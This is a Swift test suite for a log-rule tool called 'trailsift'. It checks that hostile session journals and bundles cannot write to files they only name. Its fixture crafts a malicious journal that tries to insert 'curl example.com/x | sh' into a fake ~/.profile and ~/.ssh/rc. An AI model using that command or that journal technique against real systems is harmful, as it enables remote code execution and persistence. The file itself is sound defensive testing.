import Foundation
import Testing

/// Sessions and bundles of strangers, opened by every command: only named files are written or
/// created.
@Suite(.serialized) struct HostileSessionTests {
  private let folder: Folder
  private let rule: String
  private let log: MadeLog
  private let evil: String
  private let before: [String: Data?]

  private static let profile = "# of the skeleton\nPATH=$PATH\n"

  /// A journal that claims unsaved edits: in a filter file that does not exist, and in a
  /// placeholder file that is a profile. The rule is the stranger's own.
  init() throws {
    folder = try Folder()
    rule = try folder.copy(of: Samples.rule, as: "rule.yml")
    log = try MadeLog(in: folder)
    try log.add(3, region: "ap-east-1")
    evil = folder.path + "/evil.jsonl"
    try Data(Self.profile.utf8).write(to: URL(fileURLWithPath: folder.path + "/.profile"))
    try FileManager.default.createDirectory(
      atPath: folder.path + "/.ssh", withIntermediateDirectories: true)
    try Self.journal(rule: rule, log: log.path, home: folder.path).write(
      to: URL(fileURLWithPath: evil))
    before = Self.victims(folder)
  }

  private static func victims(_ folder: Folder) -> [String: Data?] {
    var files: [String: Data?] = [:]
    for name in [".profile", ".ssh/rc", "rule.yml", "events.json"] {
      files[name] = try? folder.bytes(name)
    }
    return files
  }

  private static func journal(rule: String, log: String, home: String) throws -> Data {
    let text = try String(contentsOfFile: rule, encoding: .utf8)
    let id = text.firstMatch(of: #/(?m)^id: (\S+)/#).map { String($0.1) } ?? ""
    func change(_ path: String, _ target: String, _ offset: Int, _ line: String) -> [String: Any] {
      [
        "path": path, "target": target, "rule": id, "edit": ["allow_region": "ap-east-1"],
        "stamp": ["author": "kim", "date": "2026-03-01"], "silenced": 0,
        "before_sha256": "", "after_sha256": "",
        "patches": [["offset": offset, "removed": "", "inserted": line]],
      ]
    }
    let line = "curl example.com/x | sh\n"
    let entries: [[String: Any]] = [
      [
        "trailsift_session": 1, "tool": "trailsift 0.1.0", "author": "kim",
        "started": "2026-03-01T00:00:00Z", "edits_to": "f.yml",
        "rules": [["path": "rule.yml", "absolute_path": rule, "sha256": "", "text": text]],
        "files": [
          ["kind": "filters", "path": "f.yml", "absolute_path": home + "/.ssh/rc"],
          [
            "kind": "placeholders", "path": "p.yml", "absolute_path": home + "/.profile",
            "sha256": "", "text": profile,
          ],
        ],
        "logs": [["path": "events.json", "absolute_path": log, "bytes": 1]],
        "options": ["any_record": false, "keep_duplicates": false, "placeholders": [:]],
      ],
      [
        "seq": 1, "t": 1, "do": "allowRegion", "at": "2026-03-01T00:00:00Z", "author": "kim",
        "change": change("p.yml", "placeholders", profile.utf8.count, line),
      ],
      [
        "seq": 2, "t": 2, "do": "allowRegion", "at": "2026-03-01T00:00:00Z", "author": "kim",
        "change": change("f.yml", "filters", 0, "#!/bin/sh\n" + line),
      ],
    ]
    return try entries.reduce(into: Data()) { data, entry in
      data += try JSONSerialization.data(withJSONObject: entry) + [0x0A]
    }
  }

  @Test func noCommandWritesWhatOnlyTheSessionNames() throws {
    let bundle = folder.path + "/evil.tsb"
    func run(_ arguments: [String]) throws {
      _ = try Program.trailsift(arguments, in: folder, at: folder.path)
      #expect(Self.victims(folder) == before, "\(arguments)")
    }
    try run(["bundle", evil, "-o", bundle, "--logs", log.path])
    #expect(FileManager.default.fileExists(atPath: bundle))
    for session in [evil, bundle] {
      for format in ["markdown", "json", "csv"] {
        try run(["report", session, "--format", format])
      }
      try run(["replay", "--headless", session])
      try run(["replay", session, "--cast", folder.path + "/a.cast", "--logs", log.path])
      try run(["replay", session, "--onto", rule])
      try run(["replay", session])
      try run(["--session", session])
      try run(["--session", session, "--read-only"])
    }
    try run(["unbundle", bundle, folder.path + "/out"])
    let unpacked = folder.path + "/out/session.jsonl"
    #expect(FileManager.default.fileExists(atPath: unpacked))
    let own = folder.path + "/state/trailsift/sessions"
    try FileManager.default.createDirectory(atPath: own, withIntermediateDirectories: true)
    try FileManager.default.copyItem(atPath: evil, toPath: own + "/a.jsonl")
    try run(["sessions"])

    let terminal = try Terminal(in: folder, run: ["trailsift", "--session", unpacked])
    try terminal.wait("what is not written") {
      $0.contains("3 hits") && $0.contains("not written unless trailsift is started with them")
    }
    #expect(Self.victims(folder) == before)
    try terminal.press("u")
    try terminal.wait("a refusal") { $0.contains("unless trailsift is started with it") }
    try terminal.press("C-r", "q")
    try terminal.wait(for: "ended with status 0")
    #expect(Self.victims(folder) == before)
  }

  /// Without a place for a session, the workbench opens with --read-only, and says so.
  @Test func lookingNeedsNoPlaceForASession() throws {
    let terminal = try Terminal(
      in: folder, run: ["trailsift", rule, log.path, "--read-only"],
      environment: ["XDG_STATE_HOME": "/dev/null"])
    try terminal.wait("the hits") {
      $0.contains("3 hits") && $0.contains("this session is not recorded")
    }
    try terminal.press("q")
    try terminal.wait(for: "ended with status 0")
    let writing = try Terminal(
      in: Folder(), run: ["trailsift", rule, log.path],
      environment: ["XDG_STATE_HOME": "/dev/null"])
    try writing.wait(for: "ended with status 73")
  }
}
